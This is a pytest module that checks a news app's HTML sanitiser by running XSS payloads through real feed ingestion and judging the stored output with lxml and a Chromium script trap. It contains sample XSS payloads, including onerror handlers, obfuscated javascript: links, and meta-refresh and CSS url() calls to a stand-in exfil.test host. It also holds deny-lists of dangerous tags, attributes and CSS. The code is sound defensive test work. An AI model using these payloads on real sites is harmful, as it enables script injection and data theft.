"""Hundreds of XSS payloads fed through the real pipeline, then judged by lxml and Chromium.

Every payload in tests/data/xss/vectors.jsonl is served in four feeds at once (RSS with the
HTML in CDATA, RSS with it entity-escaped in description and content:encoded, a JSON Feed,
and RSS with the payload as title and link), subscribed, fetched by `fetch_round` and stored.
Each stored article is then (1) parsed with lxml: nothing executable may remain, and (2)
rendered, with its title, dek and link escaped as the article template does, in one Chromium
page that traps every script, handler, CSP violation, navigation and outside request. The
payloads also go straight through `sanitize_html`, so a vector that the feed parser happens
to mangle still meets the sanitiser as written. Legitimate markup (figures, tables, lists,
quotes, video embeds) must come through. SQLite only: the store is not what is under test.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from html import escape, unescape
from pathlib import Path
from typing import TYPE_CHECKING

import lxml.html
import pytest
from lxml import etree
from sqlalchemy import text

from newsdesk.config import Settings
from newsdesk.ingest.clean import EMBED_HOSTS, sanitize_html
from newsdesk.ingest.rounds import RoundReport, fetch_round
from newsdesk.store.engine import Store, open_store
from newsdesk.store.feeds import add_feed
from tests.support import browser
from tests.support.browser import ScriptTrap, breach_report
from tests.support.httpserver import Response, TestServer

if TYPE_CHECKING:
    from playwright.sync_api import Browser

chromium = browser.chromium  # the browser fixture, registered for this module

DATA = Path(__file__).parents[1] / "data" / "xss"
VECTORS_FILE = DATA / "vectors.jsonl"
LEGIT_FILE = DATA / "legit.jsonl"  # markup an article needs, with XPaths that must still match
FORBIDDEN_HOSTS = frozenset({"exfil.test"})  # payloads use it only where a fetch is a breach
DIRECT_BASE = "http://127.0.0.1/news/story"
PLACEMENTS = ("rss-cdata", "rss-escaped", "json", "title-link")
# What follows a payload in a page: an unclosed tag or quote runs on into it.
PAGE_GOES_ON = '<p title="next">More text.</p>'
XML_UNSAFE = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


@dataclass(frozen=True)
class Vector:
    name: str
    family: str
    payload: str
    inert: bool  # harmless as written; there to catch a sanitiser that decodes it into danger


@dataclass(frozen=True)
class LegitCase:
    name: str
    html: str
    expect: tuple[str, ...]  # XPath expressions that must each match the stored HTML


def load_vectors() -> list[Vector]:
    with VECTORS_FILE.open(encoding="utf-8") as handle:
        rows = [json.loads(line) for line in handle if line.strip()]
    return [Vector(r["name"], r["family"], r["payload"], bool(r.get("inert"))) for r in rows]


def load_legit() -> list[LegitCase]:
    with LEGIT_FILE.open(encoding="utf-8") as handle:
        rows = [json.loads(line) for line in handle if line.strip()]
    return [LegitCase(r["name"], r["html"], tuple(r["expect"])) for r in rows]


VECTORS = load_vectors()
LEGIT = load_legit()


# --- the feeds ---------------------------------------------------------------------------------


def _cdata(value: str) -> str:
    return "<![CDATA[" + value.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def _xml_text(value: str) -> str:
    return escape(value, quote=False)


def _body(key: str, payload: str) -> str:
    """Unique text around the payload, so no two cases are folded together as one article."""
    return f"<p>Opening of case {key}.</p>{payload}<p>Closing of case {key}.</p>"


def _rss_item(guid: str, title: str, link: str, inner: str) -> str:
    return (
        f"<item><guid isPermaLink='false'>{_xml_text(guid)}</guid><title>{title}</title>"
        f"<link>{link}</link>{inner}<pubDate>Tue, 10 Jun 2025 09:00:00 GMT</pubDate></item>"
    )


def _rss(items: list[str]) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        "<title>XSS vectors</title><link>http://example.test/</link>"
        + "".join(items)
        + "</channel></rss>"
    ).encode()


def build_feeds(url: str) -> dict[str, bytes]:
    """Path -> body for the four feeds; links are absolute under `url`, our server."""
    cdata, escaped, titles, items = [], [], [], []
    for case in LEGIT:
        key = f"legit:{case.name}"
        link = f"{url}/legit/{case.name}"
        cdata.append(_rss_item(key, key, link, f"<description>{_cdata(case.html)}</description>"))
    for v in VECTORS:
        slug = v.name.replace("/", "-")
        if not XML_UNSAFE.search(v.payload):  # XML cannot carry some controls: JSON does
            key = f"rss-cdata:{v.name}"
            desc = f"<description>{_cdata(_body(key, v.payload))}</description>"
            cdata.append(_rss_item(key, key, f"{url}/cdata/{slug}", desc))
            key = f"rss-escaped:{v.name}"
            inner = (
                f"<description>{_xml_text(v.payload)}</description>"
                f"<content:encoded>{_xml_text(_body(key, v.payload))}</content:encoded>"
            )
            escaped.append(_rss_item(key, key, f"{url}/escaped/{slug}", inner))
            key = f"title-link:{v.name}"
            desc = f"<description>{_cdata(_body(key, ''))}</description>"
            titles.append(_rss_item(key, _xml_text(v.payload), _xml_text(v.payload), desc))
        key = f"json:{v.name}"
        items.append(
            {
                "id": key,
                "url": f"{url}/json/{slug}",
                "title": v.payload,
                "summary": v.payload,
                "image": v.payload,
                "content_html": _body(key, v.payload),
                "date_published": "2025-06-10T09:00:00Z",
            }
        )
    document = {"version": "https://jsonfeed.org/version/1.1", "title": "XSS", "items": items}
    return {
        "/cdata.rss": _rss(cdata),
        "/escaped.rss": _rss(escaped),
        "/titles.rss": _rss(titles),
        "/feed.json": json.dumps(document).encode(),
    }


# --- ingest once for the module -------------------------------------------------------------------


@dataclass(frozen=True)
class Stored:
    id: int
    keys: tuple[str, ...]  # the guids of the feed entries folded into this article
    title: str
    html: str
    dek: str | None
    canonical_url: str | None
    image_url: str | None

    def page_fragment(self) -> str:
        """The article as the template shows it: plain-text fields escaped, the body as is."""
        dek = f'<p class="dek">{escape(self.dek)}</p>' if self.dek else ""
        link = (
            f'<p><a href="{escape(self.canonical_url)}">original</a></p>'
            if self.canonical_url
            else ""
        )
        return f'<h1>{escape(self.title)}</h1>{dek}{link}<div class="body">{self.html}</div>'


@dataclass(frozen=True)
class Ingested:
    report: RoundReport
    feed_status: dict[str, tuple[str, str | None]]
    articles: list[Stored]

    def by_key(self) -> dict[str, Stored]:
        return {key: article for article in self.articles for key in article.keys}


@pytest.fixture(scope="module")
def ingested(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ingested]:
    tmp = tmp_path_factory.mktemp("xss")
    settings = Settings(
        data_dir=tmp,
        database_url=f"sqlite:///{tmp / 'newsdesk.db'}",
        allowed_networks=["127.0.0.1/32"],  # type: ignore[list-item]
        total_timeout=30,
        connect_timeout=5,
    )
    with TestServer() as server:
        store = open_store(settings)
        try:
            yield _ingest(settings, store, server)
        finally:
            store.close()


def _ingest(settings: Settings, store: Store, server: TestServer) -> Ingested:
    ids = {}
    for path, body in build_feeds(server.url("").rstrip("/")).items():
        kind = "application/feed+json" if path.endswith(".json") else "application/rss+xml"
        server.route(path, Response(body=body, headers={"Content-Type": kind}))
        with store.session() as session:
            feed, _ = add_feed(session, url=server.url(path), full_text="never")
            ids[feed.id] = path
    # In a thread of its own: Playwright's sync API, once started in this thread (the browser
    # fixture may come first), keeps an event loop running here, and asyncio.run refuses that.
    with ThreadPoolExecutor(max_workers=1) as pool:
        round_ = fetch_round(settings, store, feed_ids=list(ids), cpu_workers=0)
        report = pool.submit(asyncio.run, round_).result()
    with store.session() as session:
        status = {
            ids[row.id]: (row.status, row.last_error)
            for row in session.execute(text("SELECT id, status, last_error FROM feeds"))
        }
        keys: dict[int, list[str]] = {}
        for article_id, guid in session.execute(text("SELECT article_id, guid FROM sightings")):
            keys.setdefault(article_id, []).append(guid)
        columns = "id, title, html, dek, canonical_url, image_url"
        rows = session.execute(text(f"SELECT {columns} FROM articles ORDER BY id")).all()
    articles = [Stored(r[0], tuple(sorted(keys.get(r[0], []))), *r[1:]) for r in rows]
    return Ingested(report, status, articles)


# --- what "nothing executable" means, read by lxml ------------------------------------------------

FORBIDDEN_TAGS = frozenset(
    {"script", "style", "object", "embed", "applet", "param", "form", "input", "button",
     "select", "option", "textarea", "keygen", "isindex", "output", "meta", "base", "link",
     "svg", "math", "frame", "frameset", "noscript", "template", "xmp", "plaintext", "noembed",
     "noframes", "title", "head", "portal", "fencedframe", "bgsound", "map", "area", "dialog",
     "image", "marquee", "slot"}
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "poster", "srcset", "background", "data", "cite",
     "codebase", "dynsrc", "lowsrc", "longdesc", "ping", "classid", "archive", "code",
     "manifest", "icon", "profile", "to", "from", "values", "by"}
)  # fmt: skip
ALWAYS_FORBIDDEN_ATTRIBUTES = frozenset({"srcdoc", "http-equiv", "formaction", "xmlns", "ping"})
# Sandbox tokens that would let an embed navigate our page, escape, or pop dialogs and forms.
RISKY_SANDBOX = re.compile(r"allow-(?:top-navigation|popups-to-escape|modals|forms|downloads)")
SAFE_SCHEMES = frozenset({"http", "https", "mailto", "tel"})
RASTER_DATA = re.compile(r"data:image/(?:png|gif|jpe?g|webp|avif|bmp)[;,]")
INVISIBLE = re.compile(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028\u2029\ufeff]")
SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
CSS_ESCAPE = re.compile(r"\\([0-9a-f]{1,6})\s?|\\(.)", re.I | re.S)
CSS_COMMENT = re.compile(r"/\*.*?(?:\*/|\Z)", re.S)
CSS_DANGER = (
    "expression(", "javascript:", "vbscript:", "behavior:", "-moz-binding", "@import", "url(",
    "position:fixed", "position:absolute",  # an overlay over our page: clickjacking
)  # fmt: skip
PARSER = lxml.html.HTMLParser(huge_tree=True)


def executable_parts(markup: str) -> list[str]:
    """Every element, attribute or URL in `markup` that could run script or call out."""
    if not markup.strip():
        return []
    try:
        root = lxml.html.document_fromstring(markup, parser=PARSER)
    except etree.ParserError:  # nothing but a comment: parse it next to an element
        root = lxml.html.document_fromstring("<p></p>" + markup, parser=PARSER)
    problems = []
    # Comments before or after <html> are siblings of the root, not inside it.
    for node in (*root.itersiblings(preceding=True), *root.iter(), *root.itersiblings()):
        if not isinstance(node.tag, str):
            problems.append(f"comment or instruction left: {str(node)[:60]!r}")
            continue
        tag = node.tag.lower()
        if tag in FORBIDDEN_TAGS or ":" in tag:
            problems.append(f"<{tag}> element")
        for name, value in node.attrib.items():
            problems.extend(_attribute_problems(tag, name.lower(), value))
        if tag == "iframe":
            problems.extend(_iframe_problems(node))
    return problems


def _attribute_problems(tag: str, name: str, value: str) -> list[str]:
    if name.startswith("on") or name in ALWAYS_FORBIDDEN_ATTRIBUTES:
        return [f"<{tag} {name}=...>"]
    if name == "style":
        css = CSS_COMMENT.sub("", unescape(value))
        css = CSS_ESCAPE.sub(_css_char, css)
        css = re.sub(r"\s+", "", css).lower()
        return [f"<{tag} style={value[:60]!r}>"] if any(d in css for d in CSS_DANGER) else []
    if name in URL_ATTRIBUTES or name.endswith("href"):
        candidates = value.split(",") if name == "srcset" else [value]
        return [
            f"<{tag} {name}={url[:60]!r}>"
            for url in (c.strip().split(" ")[0] if name == "srcset" else c for c in candidates)
            if not _safe_url(tag, name, url)
        ]
    return []


def _css_char(match: re.Match[str]) -> str:
    if match.group(1):
        code = int(match.group(1), 16)
        return chr(code) if 0 < code <= 0x10FFFF and not 0xD800 <= code <= 0xDFFF else "\ufffd"
    return match.group(2)


def _safe_url(tag: str, name: str, value: str) -> bool:
    """Decoded once more and stripped of every invisible character: stricter than a browser."""
    url = INVISIBLE.sub("", unescape(value)).lower()
    scheme = SCHEME.match(url)
    if scheme is None:
        return ":" not in url.split("/", 1)[0]  # relative; a colon there is a scheme-ish trick
    if scheme.group(1) == "data":
        return (
            tag in ("img", "source") and name in ("src", "srcset") and bool(RASTER_DATA.match(url))
        )
    return scheme.group(1) in SAFE_SCHEMES


def _iframe_problems(node: lxml.html.HtmlElement) -> list[str]:
    src = INVISIBLE.sub("", node.get("src") or "")
    match = re.match(r"https://([^/?#@\\:]+)(/[^?#]*)", src)
    prefix = EMBED_HOSTS.get(match.group(1).lower()) if match else None
    path = match.group(2).lower() if match else ""
    problems = []
    if prefix is None or not path.startswith(prefix) or re.search(r"\.\.|%2e|\\", path):
        problems.append(f"<iframe src={src[:80]!r}> is not an allowed embed")
    if node.get("sandbox") is None:
        problems.append("<iframe> without sandbox")
    elif RISKY_SANDBOX.search(node.get("sandbox", "").lower()):
        problems.append(f"<iframe sandbox={node.get('sandbox')!r}>")
    if len(node) or (node.text or "").strip():
        problems.append("<iframe> with content")
    return problems


def _summary(problems: dict[str, list[str]], limit: int = 40) -> str:
    lines = [f"{key}: {'; '.join(found)}" for key, found in list(problems.items())[:limit]]
    return "\n".join(lines) + (
        f"\n... {len(problems) - limit} more" if len(problems) > limit else ""
    )


# --- the tests ---------------------------------------------------------------------------------


def test_vector_file_is_large_varied_and_well_formed() -> None:
    names = [v.name for v in VECTORS]
    assert len(VECTORS) >= 150
    assert len(set(names)) == len(names)
    assert len({v.family for v in VECTORS}) >= 15
    assert all(v.name.startswith(v.family + "/") and v.payload for v in VECTORS)


def test_checker_flags_every_raw_vector_that_is_not_inert() -> None:
    """The static check can fail: it sees the danger in each payload before sanitising."""
    missed = [
        v.name for v in VECTORS if not v.inert and not executable_parts(v.payload + PAGE_GOES_ON)
    ]
    assert missed == []


def test_every_vector_reaches_the_store_through_every_feed(ingested: Ingested) -> None:
    assert ingested.report.failed_tasks == 0
    assert all(state == ("ok", None) for state in ingested.feed_status.values()), ingested
    stored = ingested.by_key()
    expected = [f"legit:{case.name}" for case in LEGIT]
    for v in VECTORS:
        places = PLACEMENTS if not XML_UNSAFE.search(v.payload) else ("json",)
        expected.extend(f"{place}:{v.name}" for place in places)
    assert [key for key in expected if key not in stored] == []


def test_stored_articles_and_direct_output_hold_nothing_executable(ingested: Ingested) -> None:
    problems: dict[str, list[str]] = {}
    for article in ingested.articles:
        found = executable_parts(article.html)
        for field in ("canonical_url", "image_url"):
            value = getattr(article, field)
            if value is not None and not re.match(r"https?://", value):
                found.append(f"{field} {value[:60]!r}")
        if found:
            problems[",".join(article.keys)] = found
    for v in VECTORS:
        if found := executable_parts(sanitize_html(v.payload, base_url=DIRECT_BASE)):
            problems[f"direct:{v.name}"] = found
    assert not problems, _summary(problems)


def test_nothing_stored_runs_script_or_calls_out_in_chromium(
    ingested: Ingested, chromium: Browser
) -> None:
    fragments = {",".join(a.keys): a.page_fragment() for a in ingested.articles}
    for v in VECTORS:
        fragments[f"direct:{v.name}"] = sanitize_html(v.payload, base_url=DIRECT_BASE)
    trap = ScriptTrap(chromium, embeds=EMBED_HOSTS, forbidden_hosts=FORBIDDEN_HOSTS)
    breaches = trap.render_each(fragments)
    assert breaches == [], breach_report(breaches)


TRAP_CANARIES = [
    pytest.param("<script>var quiet = 1;</script>", id="silent-script"),
    pytest.param("<img src=x onerror=alert(1)>", id="onerror"),
    pytest.param("<div onmouseover=__xss(1)>x</div>", id="mouseover"),
    pytest.param("<a href='jav&#x09;ascript:alert(1)'>x</a>", id="javascript-link"),
    pytest.param("<meta http-equiv=refresh content='0;url=http://exfil.test/'>", id="refresh"),
    pytest.param("<style>@import 'http://elsewhere.test/x.css';</style>", id="css-import"),
    pytest.param("<p style='background:url(//exfil.test/leak)'>x</p>", id="css-exfil"),
    pytest.param("<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", id="srcdoc"),
    pytest.param(
        "<iframe sandbox src='https://www.youtube.com/embed/%2e%2e/x'></iframe>", id="dots"
    ),
    pytest.param("<form action='javascript:alert(1)'><input type=submit></form>", id="form"),
    pytest.param("<object data='http://elsewhere.test/x.swf'></object>", id="object"),
    pytest.param("<details open ontoggle=alert(1)><summary>x</summary></details>", id="toggle"),
]


@pytest.mark.parametrize("markup", TRAP_CANARIES)
def test_trap_catches_unsanitised_markup(chromium: Browser, markup: str) -> None:
    """The browser check can fail: each of these, shown raw, must be caught."""
    trap = ScriptTrap(chromium, embeds=EMBED_HOSTS, forbidden_hosts=FORBIDDEN_HOSTS)
    assert trap.render({"canary": markup}) != []


def test_legitimate_markup_survives(ingested: Ingested) -> None:
    stored = ingested.by_key()
    missing = []
    for case in LEGIT:
        root = lxml.html.fragment_fromstring(stored[f"legit:{case.name}"].html, create_parent="div")
        missing.extend(f"{case.name}: {xpath}" for xpath in case.expect if not root.xpath(xpath))
    assert missing == []
